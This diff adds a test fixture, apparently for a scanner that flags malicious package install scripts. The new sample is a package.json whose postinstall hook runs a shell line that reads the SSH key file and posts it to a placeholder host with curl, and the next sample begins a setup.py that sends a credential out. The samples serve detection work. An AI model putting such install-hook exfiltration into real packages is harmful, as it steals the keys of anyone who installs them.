@@ -226,6 +226,11 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                 )
             },
             {
+                # an install hook's script reads a key and posts it on one command line (portionfatty12 2018)
+                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "sh run.sh"}}',
+                "run.sh": 'a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d "k=$a" https://c.example.invalid/k\n',
+            },
+            {
                 # one credential variable sent from setup.py is a theft, not telemetry (issue 10)
                 "setup.py": (
                     "import os\nfrom urllib.request import urlopen\nfrom setuptools import setup\n"
